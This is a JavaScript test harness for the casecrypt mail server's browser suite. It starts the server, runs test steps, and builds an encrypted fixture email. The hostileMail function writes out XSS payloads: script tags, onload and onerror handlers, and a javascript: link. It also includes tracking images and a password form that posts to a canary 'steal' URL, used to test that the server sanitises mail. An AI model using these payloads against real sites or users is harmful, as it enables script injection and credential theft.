// The browser suite's harness: a data directory with `casecrypt serve` on a free loopback port,
// headless Chromium (Debian's), a tiny step runner that ends with "N passed, N failed", and the
// openssl CLI for the fixture mail (made by a third-party implementation, never by our code).
import { spawn, execFileSync } from 'node:child_process';
import fs from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';

export const BIN = process.env.CASECRYPT_BIN;
export const FIXTURES = process.env.CASECRYPT_FIXTURES;
export const CHROMIUM = process.env.CASECRYPT_CHROMIUM || '/usr/bin/chromium';

export function freePort() {
  return new Promise((resolve, reject) => {
    const server = net.createServer();
    server.once('error', reject);
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address();
      server.close(() => resolve(port));
    });
  });
}

export function tempDir(prefix) {
  return fs.mkdtempSync(path.join(os.tmpdir(), prefix));
}

export function cli(dataDir, args, input) {
  return execFileSync(BIN, ['--data-dir', dataDir, ...args], { input, encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] });
}

export function openssl(args, input) {
  return execFileSync('openssl', args, { input, stdio: ['pipe', 'pipe', 'pipe'] });
}

// Starts `casecrypt serve` and resolves once the HTTP port answers, with what it printed so far
// (the first start prints the one-time password of `admin`).
export async function startServer(dataDir) {
  const port = await freePort();
  const child = spawn(BIN, ['--data-dir', dataDir, 'serve', '--listen', `127.0.0.1:${port}`, '--interval', '1'],
    { stdio: ['ignore', 'pipe', 'pipe'] });
  const server = { child, port, url: `http://127.0.0.1:${port}`, output: '' };
  child.stdout.on('data', (d) => { server.output += d; });
  child.stderr.on('data', (d) => { server.output += d; });
  const exited = new Promise((resolve) => child.once('exit', (code) => resolve(code)));
  server.exited = exited;
  const deadline = Date.now() + 30000;
  for (;;) {
    if (child.exitCode !== null) throw new Error(`casecrypt serve ended with ${child.exitCode}:\n${server.output}`);
    try {
      // The port may be bound before anything accepts: a fetch without a timeout waits forever.
      const r = await fetch(`${server.url}/api/session`, { signal: AbortSignal.timeout(2000) });
      await r.text();
      break;
    } catch (e) {
      if (Date.now() > deadline) throw new Error(`casecrypt serve did not answer within 30 s:\n${server.output}`);
      await sleep(150);
    }
  }
  return server;
}

export async function stopServer(server) {
  if (!server || server.child.exitCode !== null) return;
  server.child.kill('SIGTERM');
  const timer = setTimeout(() => server.child.kill('SIGKILL'), 10000);
  await server.exited;
  clearTimeout(timer);
}

// The one-time password printed on the first start ("first start: user admin, one-time
// password SECRET (change it at first login)") (CASECRYPT_ADMIN_PASSWORD overrides, for a server started otherwise).
export function oneTimePassword(output) {
  if (process.env.CASECRYPT_ADMIN_PASSWORD) return process.env.CASECRYPT_ADMIN_PASSWORD;
  for (const line of output.split('\n')) {
    const m = /one-time password:?\s+(\S+)/i.exec(line) || /password\b[^:\n]*:\s*(\S+)/i.exec(line);
    if (m) return m[1].replace(/^["'`]|["'`.,;)]+$/g, '');
  }
  return null;
}

export function sleep(ms) {
  return new Promise((resolve) => setTimeout(resolve, ms));
}

export async function until(what, fn, timeoutMs = 15000) {
  const deadline = Date.now() + timeoutMs;
  let last;
  for (;;) {
    try {
      const value = await fn();
      if (value) return value;
    } catch (e) {
      last = e;
    }
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}${last ? `: ${last.message}` : ''}`);
    await sleep(200);
  }
}

export function assert(condition, message) {
  if (!condition) throw new Error(message);
}

// Ordered steps; a failed step is reported and the run goes on (later steps may fail with it).
export class Steps {
  constructor() {
    this.passed = 0;
    this.failed = 0;
  }

  async run(name, fn) {
    const started = Date.now();
    try {
      await fn();
      this.passed += 1;
      console.log(`ok   ${name} (${Date.now() - started} ms)`);
    } catch (e) {
      this.failed += 1;
      if (this.onFail) await this.onFail(this.passed + this.failed).catch(() => {});
      console.log(`FAIL ${name}\n     ${String(e && e.stack || e).split('\n').slice(0, 6).join('\n     ')}`);
    }
  }

  summary() {
    console.log(`${this.passed} passed, ${this.failed} failed`);
    return this.failed === 0 && this.passed > 0;
  }
}

// A mail to support@example.test from alice@example.test whose HTML part tries everything a
// hostile sender would (script, event handlers, a remote image, a form, CSS url(), a
// javascript: link), enveloped with openssl cms to our server certificate.
export function hostileMail(dir, canaryUrl) {
  const supportCert = path.join(dir, 'support.crt');
  openssl(['pkcs12', '-in', path.join(FIXTURES, 'server/ok-aes256.p12'), '-passin',
    `file:${path.join(FIXTURES, 'server/ok-aes256.pass')}`, '-nokeys', '-clcerts', '-out', supportCert]);
  const html = [
    '<html><head><script>window.top.__pwned = 1; window.__pwned = 1; alert("script");</script>',
    `<style>body { background: url("${canaryUrl}/css-background.png"); }</style>`,
    `<link rel="stylesheet" href="${canaryUrl}/remote.css"></head>`,
    '<body onload="window.top.__pwned = 2; alert(\'onload\')">',
    '<p>Hello support, <b>the printer</b> is on fire.</p>',
    `<img src="${canaryUrl}/tracking-pixel.png" alt="pixel">`,
    '<img src="x" onerror="window.top.__pwned = 3; alert(\'onerror\')">',
    `<form action="${canaryUrl}/steal" method="post"><input name="password"><button>Log in</button></form>`,
    `<div style="background-image: url('${canaryUrl}/inline-style.png')">styled</div>`,
    '<a href="javascript:alert(\'link\')">javascript link</a>',
    '<a href="https://www.example.org/manual">The printer manual</a>',
    '<iframe src="https://www.example.org/frame"></iframe>',
    '</body></html>',
  ].join('\r\n');
  const inner = [
    'Content-Type: multipart/alternative; boundary="alt-boundary"', '',
    '--alt-boundary', 'Content-Type: text/plain; charset=utf-8', '',
    'Hello support, the printer is on fire. <script>alert("text")</script>', '',
    '--alt-boundary', 'Content-Type: text/html; charset=utf-8', '', html, '',
    '--alt-boundary--', ''].join('\r\n');
  const innerFile = path.join(dir, 'inner.mime');
  fs.writeFileSync(innerFile, inner);
  const enveloped = openssl(['cms', '-encrypt', '-binary', '-aes256', '-in', innerFile, supportCert]).toString();
  const headers = ['From: Alice Customer <alice@example.test>', 'To: Example Support <support@example.test>',
    'Subject: Hostile HTML test', 'Date: Mon, 07 Dec 2026 10:00:00 +0000',
    `Message-ID: <hostile-${Date.now()}@example.test>`];
  return `${headers.join('\r\n')}\r\n${enveloped.replace(/\r?\n/g, '\r\n')}`;
}
